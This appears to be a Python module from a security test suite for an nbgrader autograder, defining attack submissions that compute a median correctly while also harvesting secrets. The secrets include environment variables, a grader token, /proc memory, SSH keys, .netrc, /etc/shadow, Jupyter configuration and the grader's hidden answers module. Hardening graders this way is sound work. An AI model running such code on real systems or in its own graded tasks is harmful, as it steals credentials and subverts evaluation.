"""Secrets of the grader's: its environment, its configuration, its home."""

from ..attack import ALL, family, right

add = family("Environment and secrets")


def _middle(name, why, source):
    body = f"{source.rstrip()}\n        return sorted(values)[len(values) // 2]\n"
    add(name, why, right(middle=body), ALL)


_middle(
    "reads-the-environment",
    "`os.environ`, what C knows of it, /proc, and what a child is given.",
    """
    import ctypes, os, subprocess
    def middle(values):
        libc = ctypes.CDLL(None)
        libc.getenv.restype = ctypes.c_char_p
        seen = [dict(os.environ), libc.getenv(b"GRADER_TOKEN"), read("/proc/self/environ"),
                read("/proc/1/environ"), read(f"/proc/{os.getppid()}/environ")]
        try:
            seen.append(subprocess.run(["env"], capture_output=True, timeout=2).stdout)
        except OSError:
            pass
        found(*seen)
""",
)
_middle(
    "reads-the-stack-of-the-process",
    "Where the kernel of the system put the environment when the process began.",
    """
    def middle(values):
        with open("/proc/self/stat") as stat:
            fields = stat.read().rpartition(")")[2].split()
        start = int(fields[25])
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                if "[stack]" in line or "[heap]" in line:
                    low, high = (int(n, 16) for n in line.split()[0].split("-"))
                    memory.seek(low)
                    found(memory.read(high - low).decode("latin-1"))
""",
)
_middle(
    "reads-homes-and-settings",
    "Keys, tokens and configuration where they usually lie.",
    """
    import glob, os, pwd
    def middle(values):
        homes = {os.path.expanduser("~"), "@HOME@", "/root", *(p.pw_dir for p in pwd.getpwall())}
        for home in homes:
            names = [".netrc", ".ssh/id_rsa", ".gitconfig", ".bash_history", ".jupyter/*",
                     ".local/share/jupyter/runtime/*", ".config/*", ".ipython/*/*.sqlite"]
            for name in names:
                found(*map(read, glob.glob(os.path.join(home, name))))
        for path in ("/etc/shadow", "/etc/hosts", "/etc/resolv.conf", "/run/secrets"):
            if read(path).strip():
                reached(path)
""",
)
_middle(
    "imports-the-answers",
    "The grader's module, by its name and by its place.",
    """
    import importlib, sys
    def middle(values):
        sys.path.append("@COURSE@/grader")
        try:
            found(importlib.import_module("answers").NOTE)
        except ImportError:
            found()
        found(*(getattr(m, "NOTE", "") for m in list(sys.modules.values())))
""",
)
_middle(
    "asks-for-the-configuration",
    "nbgrader's and Jupyter's configuration, with its addresses and passwords.",
    """
    import glob, os
    def middle(values):
        places = ("@COURSE@/*.py", "@COURSE@/../*.py", "/etc/jupyter/*")
        paths = [path for place in places for path in glob.glob(place)]
        seen = [read(path) for path in ["@COURSE@/nbgrader_config.py", *paths]]
        try:
            seen.append(get_config())
        except NameError:
            pass
        if "CourseDirectory" in str(seen):
            reached("the configuration")
        found(*seen)
""",
)
